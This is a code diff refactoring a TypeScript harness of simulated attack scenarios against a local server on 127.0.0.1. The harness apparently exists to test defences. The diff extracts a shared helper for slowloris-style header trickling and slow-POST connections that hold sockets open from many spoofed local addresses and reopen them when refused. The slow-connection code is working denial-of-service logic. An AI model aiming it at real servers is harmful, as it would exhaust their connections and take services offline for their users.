@@ -104,6 +104,37 @@ export interface Scenario<P> {
 
 function scenario<P>(s: Scenario<P>): Scenario<P> { return s; }
 
+/** The connections a slow attack keeps open, and how many are connected now. */
+interface Trickles { socks: Set<net.Socket>; open: number }
+
+/**
+ * One slow connection from `addr`: writes `head()`, then `next()` every
+ * intervalMs, never finishing; reopened 100 ms after the target closes it,
+ * until the attack ends. A close soon after opening counts as a refusal.
+ */
+function trickle(ctx: AttackContext, addr: string, t: Trickles, head: () => string, next: () => string, intervalMs: number): void {
+  if (Date.now() >= ctx.endAt) return;
+  ctx.sources.add(addr);
+  now(ctx).sent++;
+  const opened = Date.now();
+  const s = net.connect({ port: ctx.port, host: '127.0.0.1', localAddress: addr });
+  t.socks.add(s);
+  let timer: NodeJS.Timeout | null = null;
+  s.on('connect', () => {
+    t.open++;
+    s.write(head());
+    timer = setInterval(() => s.write(next()), intervalMs);
+  });
+  s.on('data', () => {});
+  s.on('error', (e: NodeJS.ErrnoException) => count(ctx, addr, 'error', e.code));
+  s.on('close', (hadError) => {
+    if (timer) { clearInterval(timer); t.open--; }
+    t.socks.delete(s);
+    if (!hadError) count(ctx, addr, Date.now() - opened < 1000 ? 'error' : 'other', 'ECONNRESET');
+    if (Date.now() < ctx.endAt) setTimeout(() => trickle(ctx, addr, t, head, next, intervalMs), 100);
+  });
+}
+
 export const SCENARIOS = {
   flood: scenario({
     describe: 'per-source flood: a few sources, keep-alive, pages as fast as allowed',
@@ -146,35 +177,12 @@ export const SCENARIOS = {
     octet: 203,
     defaults: { sources: 50, connsPerSource: 24, headerIntervalMs: 4000 },
     async run(ctx, p) {
-      const socks = new Set<net.Socket>();
-      let open = 0;
-      const one = (addr: string) => {
-        if (Date.now() >= ctx.endAt) return;
-        ctx.sources.add(addr);
-        now(ctx).sent++;
-        const opened = Date.now();
-        const s = net.connect({ port: ctx.port, host: '127.0.0.1', localAddress: addr });
-        socks.add(s);
-        let timer: NodeJS.Timeout | null = null;
-        s.on('connect', () => {
-          open++;
-          s.write(`GET /?${randStr(6)} HTTP/1.1\r\nHost: ${SITE_HOST}\r\nUser-Agent: ${pick(USER_AGENTS)}\r\nAccept-Language: en-US,en;q=0.5\r\n`);
-          timer = setInterval(() => s.write(`X-${randStr(4)}: ${randStr(6)}\r\n`), p.headerIntervalMs);
-        });
-        s.on('data', () => {});
-        s.on('error', (e: NodeJS.ErrnoException) => count(ctx, addr, 'error', e.code));
-        s.on('close', (hadError) => {
-          if (timer) { clearInterval(timer); open--; }
-          socks.delete(s);
-          // Closed by the target soon after opening: the target is refusing this source.
-          if (!hadError && Date.now() - opened < 1000) count(ctx, addr, 'error', 'ECONNRESET');
-          else if (!hadError) count(ctx, addr, 'other');
-          if (Date.now() < ctx.endAt) setTimeout(() => one(addr), 100);
-        });
-      };
-      for (let i = 0; i < p.sources; i++) for (let k = 0; k < p.connsPerSource; k++) setTimeout(() => one(attackAddress(this.octet, i)), rand(1000));
-      while (Date.now() < ctx.endAt) { now(ctx).open = open; await sleep(200); }
-      for (const s of socks) s.destroy();
+      const t: Trickles = { socks: new Set(), open: 0 };
+      const head = () => `GET /?${randStr(6)} HTTP/1.1\r\nHost: ${SITE_HOST}\r\nUser-Agent: ${pick(USER_AGENTS)}\r\nAccept-Language: en-US,en;q=0.5\r\n`;
+      const next = () => `X-${randStr(4)}: ${randStr(6)}\r\n`;
+      for (let i = 0; i < p.sources; i++) for (let k = 0; k < p.connsPerSource; k++) setTimeout(() => trickle(ctx, attackAddress(this.octet, i), t, head, next, p.headerIntervalMs), rand(1000));
+      while (Date.now() < ctx.endAt) { now(ctx).open = t.open; await sleep(200); }
+      for (const s of t.socks) s.destroy();
     },
   }),
   'slow-post': scenario({
@@ -182,31 +190,10 @@ export const SCENARIOS = {
     octet: 204,
     defaults: { slowSources: 20, slowConnsPerSource: 10, declaredBytes: 100_000, bytesPerSecond: 10, largeSources: 10, largeRate: 40, largeBytes: 2_000_000 },
     async run(ctx, p) {
-      const socks = new Set<net.Socket>();
-      let open = 0;
-      const slow = (addr: string) => {
-        if (Date.now() >= ctx.endAt) return;
-        ctx.sources.add(addr);
-        now(ctx).sent++;
-        const opened = Date.now();
-        const s = net.connect({ port: ctx.port, host: '127.0.0.1', localAddress: addr });
-        socks.add(s);
-        let timer: NodeJS.Timeout | null = null;
-        s.on('connect', () => {
-          open++;
-          s.write(`POST /login HTTP/1.1\r\nHost: ${SITE_HOST}\r\nUser-Agent: ${pick(USER_AGENTS)}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${p.declaredBytes}\r\n\r\nuser=`);
-          timer = setInterval(() => s.write('a'.repeat(p.bytesPerSecond)), 1000);
-        });
-        s.on('data', () => {});
-        s.on('error', (e: NodeJS.ErrnoException) => count(ctx, addr, 'error', e.code));
-        s.on('close', (hadError) => {
-          if (timer) { clearInterval(timer); open--; }
-          socks.delete(s);
-          if (!hadError) count(ctx, addr, Date.now() - opened < 1000 ? 'error' : 'other', 'ECONNRESET');
-          if (Date.now() < ctx.endAt) setTimeout(() => slow(addr), 100);
-        });
-      };
-      for (let i = 0; i < p.slowSources; i++) for (let k = 0; k < p.slowConnsPerSource; k++) setTimeout(() => slow(attackAddress(this.octet, i)), rand(1000));
+      const t: Trickles = { socks: new Set(), open: 0 };
+      const head = () => `POST /login HTTP/1.1\r\nHost: ${SITE_HOST}\r\nUser-Agent: ${pick(USER_AGENTS)}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${p.declaredBytes}\r\n\r\nuser=`;
+      const next = () => 'a'.repeat(p.bytesPerSecond);
+      for (let i = 0; i < p.slowSources; i++) for (let k = 0; k < p.slowConnsPerSource; k++) setTimeout(() => trickle(ctx, attackAddress(this.octet, i), t, head, next, 1000), rand(1000));
       const big = Buffer.alloc(p.largeBytes, 'x');
       const addrs = Array.from({ length: p.largeSources }, (_, i) => attackAddress(this.octet, 1000 + i));
       const ag = agents(ctx, addrs, 4);
@@ -214,9 +201,9 @@ export const SCENARIOS = {
         addr: addrs[n % addrs.length], agent: ag[n % addrs.length], method: 'POST', path: '/login', body: big,
         headers: { 'user-agent': pick(USER_AGENTS), 'content-type': 'application/x-www-form-urlencoded', 'content-length': big.length },
       }));
-      while (Date.now() < ctx.endAt) { now(ctx).open = open; await sleep(200); }
+      while (Date.now() < ctx.endAt) { now(ctx).open = t.open; await sleep(200); }
       await flood;
-      for (const s of socks) s.destroy();
+      for (const s of t.socks) s.destroy();
     },
   }),
   'browser-bot': scenario({
